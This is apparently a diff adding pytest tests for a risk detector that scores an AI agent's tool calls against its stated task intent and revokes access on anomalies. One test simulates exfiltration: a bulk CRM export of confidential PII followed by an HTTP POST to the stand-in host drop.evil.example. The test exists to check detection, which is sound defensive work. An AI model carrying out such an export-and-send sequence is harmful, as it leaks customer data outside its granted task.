@@ -1,0 +1,187 @@
+"""Fusion: monotone, cumulative per task, staged learning, explained."""
+
+from __future__ import annotations
+
+import itertools
+import random
+
+import pytest
+
+from models.catalogue import ToolCatalogue
+from models.config import ScoringConfig
+from models.contracts import Grant, ToolCall
+from models.detection import (
+    BEHAVIOUR,
+    DEFAULT_WEIGHTS,
+    INTENT,
+    Detector,
+    FusionConfig,
+    TaskRisk,
+    fuse,
+)
+
+CATALOGUE = ToolCatalogue()
+AGENT = "spiffe://acme.org/agents/support/a1"
+INTENT_TEXT = "Look up the order of jane@customer.example and reply to her about the refund"
+_ids = itertools.count()
+
+
+def grant(task: str, intent: str = INTENT_TEXT) -> Grant:
+    return Grant(grant_id=task, agent_id=AGENT, task_id=task, credential_ids=["c"], tools=["*"],
+                 targets=["*"], data_labels=["restricted"], issued_at=0, expires_at=9e9,
+                 issuer="broker", intent=intent)
+
+
+def run_task(detector: Detector, task: str, calls: list[dict], *, learn: bool = True,
+             intent: str = INTENT_TEXT) -> list:
+    """Assess ``calls`` (dicts of ToolCall fields) as one task, then end it."""
+    g, made, assessments = grant(task, intent), [], []
+    for i, fields in enumerate(calls):
+        call = ToolCall(event_id=str(next(_ids)), ts=10.0 * i, agent_id=AGENT, task_id=task,
+                        **fields)
+        info = CATALOGUE.resolve(call)
+        assessments.append(detector.assess(call, g, info))
+        made.append((call, info))
+    detector.end_task(AGENT, task, made, learn=learn)
+    return assessments
+
+
+ROUTINE = [
+    {"tool": "orders.get_order", "target": "https://orders.acme.org/api/orders/ORD-1"},
+    {"tool": "gmail.send_email", "target": "mailto:jane@customer.example", "bytes_out": 3000},
+]
+
+
+@pytest.fixture(scope="module")
+def trained() -> Detector:
+    config = ScoringConfig(detectors={"multivariate": {"window_size": 50}})
+    detector = Detector(config)
+    for k in range(150):
+        run_task(detector, f"warm-{k}", ROUTINE)
+    return detector
+
+
+def components(**values: float) -> dict[str, float]:
+    return {**dict.fromkeys(BEHAVIOUR + INTENT, 0.0), "action_risk": 0.5, **values}
+
+
+def test_fusion_is_monotone_in_every_component() -> None:
+    rng = random.Random(7)
+    fusion = FusionConfig()
+    for _ in range(200):
+        base = components(**{n: rng.random() for n in BEHAVIOUR + INTENT},
+                          action_risk=rng.random())
+        risk, _ = fuse(base, DEFAULT_WEIGHTS, fusion)
+        name = rng.choice((*BEHAVIOUR, *INTENT, "action_risk"))
+        higher = {**base, name: min(1.0, base[name] + rng.random())}
+        assert fuse(higher, DEFAULT_WEIGHTS, fusion)[0] >= risk
+
+
+def test_fusion_contributions_add_up_to_the_log_odds() -> None:
+    fusion = FusionConfig(bias=-5.0, action_floor=0.5)
+    risk, parts = fuse(components(tool_rarity=1.0, intent=0.5, action_risk=1.0),
+                       DEFAULT_WEIGHTS, fusion)
+    assert parts == {"tool_rarity": DEFAULT_WEIGHTS["tool_rarity"],
+                     "intent": 0.5 * DEFAULT_WEIGHTS["intent"]}
+    logit = fusion.bias + sum(parts.values())
+    assert risk == pytest.approx(1 / (1 + 2.718281828459045 ** -logit))
+
+
+def test_an_unusual_read_weighs_less_than_an_unusual_send() -> None:
+    read, _ = fuse(components(tool_rarity=1.0, action_risk=0.2), DEFAULT_WEIGHTS, FusionConfig())
+    send, _ = fuse(components(tool_rarity=1.0, action_risk=0.9), DEFAULT_WEIGHTS, FusionConfig())
+    assert read < send
+
+
+def test_task_risk_accumulates_distinct_medium_signals_but_not_repeats() -> None:
+    task = TaskRisk(floor=0.15)
+    first = task.add(("crm.export_contacts", "x"), 0.6)
+    assert task.add(("crm.export_contacts", "x"), 0.6) == first  # a repeat adds nothing
+    assert task.add(("crm.lookup", "y"), 0.1) == first  # under the floor adds nothing
+    second = task.add(("gmail.send_email", "z"), 0.6)
+    third = task.add(("drive.share_file", "w"), 0.6)
+    assert first < 0.6 < second < third
+    assert third >= 0.8  # three medium signals reach a revocation that none reaches alone
+
+
+def test_routine_calls_score_low_after_warm_up(trained: Detector) -> None:
+    scores = [a.score for a in run_task(trained, "routine", ROUTINE)]
+    assert max(scores) < 0.2
+
+
+def test_exfiltration_to_an_unnamed_new_domain_revokes_with_reasons(trained: Detector) -> None:
+    attack = [
+        ROUTINE[0],
+        {"tool": "crm.export_contacts", "target": "https://crm.acme.org/api/contacts/export",
+         "data_labels": ["confidential", "pii"], "bytes_in": 4_000_000},
+        {"tool": "http.post", "target": "https://drop.evil.example/collect",
+         "bytes_out": 4_000_000},
+    ]
+    last = run_task(trained, "exfil", attack, learn=False)[-1]
+    assert last.score >= 0.8
+    weights = [r.weight for r in last.reasons]
+    assert weights == sorted(weights, reverse=True)
+    assert 0.8 * last.score <= sum(weights) <= last.score + 1e-3  # the main reasons, not all
+    text = " ".join(r.detail for r in last.reasons)
+    assert "evil.example" in text and "the intent does not name it" in text
+    assert set(BEHAVIOUR + INTENT) <= set(last.components)
+
+
+def test_a_recipient_the_intent_names_scores_lower_than_one_it_does_not(
+    trained: Detector,
+) -> None:
+    named = {"tool": "gmail.send_email", "target": "mailto:bob@newco.example"}
+    intent = "Reply to bob@newco.example about the refund"
+    approved = run_task(trained, "named", [named], learn=False, intent=intent)[0]
+    unnamed = run_task(trained, "unnamed", [named], learn=False,
+                       intent="Reply to carol@other.example about the refund")[0]
+    assert approved.score < unnamed.score
+    assert any(r.code == "unnamed_recipient" for r in unnamed.reasons)
+
+
+def test_an_unasked_admin_action_outweighs_an_unasked_read(trained: Detector) -> None:
+    admin = run_task(trained, "admin", [{"tool": "okta.reset_password",
+                                         "target": "https://acme.okta.com/api/v1/users/u1"}],
+                     learn=False)[0]
+    read = run_task(trained, "read", [{"tool": "kb.search",
+                                       "target": "https://kb.acme.org/search"}], learn=False)[0]
+    assert admin.components["intent"] > read.components["intent"]
+    assert admin.score > read.score
+    assert "intent" in {r.code for r in admin.reasons}
+    assert "not what the intent asks for" in " ".join(r.detail for r in admin.reasons)
+
+
+def test_staged_learning_only_learns_tasks_that_ended_well() -> None:
+    detector = Detector(ScoringConfig())
+    for k in range(30):
+        run_task(detector, f"warm-{k}", ROUTINE)
+    odd = [{"tool": "drive.delete_file", "target": "https://drive.google.com/file/d/1"}]
+    before = run_task(detector, "probe-1", odd, learn=False)[0].components["tool_rarity"]
+    for k in range(20):
+        run_task(detector, f"revoked-{k}", odd, learn=False)
+    assert run_task(detector, "probe-2", odd, learn=False)[0].components["tool_rarity"] == before
+    for k in range(20):
+        run_task(detector, f"learned-{k}", odd, learn=True)
+    assert run_task(detector, "probe-3", odd, learn=False)[0].components["tool_rarity"] < before
+
+
+def test_end_task_drops_the_task_state() -> None:
+    detector = Detector(ScoringConfig())
+    run_task(detector, "t", ROUTINE)
+    assert not detector._tasks
+
+
+def test_the_shared_model_scores_zero_until_it_has_a_reference_window() -> None:
+    detector = Detector(ScoringConfig(detectors={"multivariate": {"window_size": 20}}))
+    assert run_task(detector, "cold", ROUTINE)[0].components["hst"] == 0.0
+    assert not detector.shared.ready
+    for k in range(30):
+        run_task(detector, f"warm-{k}", ROUTINE)
+    assert detector.shared.ready
+
+
+def test_unknown_settings_are_rejected() -> None:
+    with pytest.raises(ValueError, match="unknown component weights"):
+        Detector(ScoringConfig(weights={"nonsense": 1.0}))
+    with pytest.raises(ValueError, match="unknown fusion settings"):
+        Detector(ScoringConfig(detectors={"fusion": {"nonsense": 1.0}}))
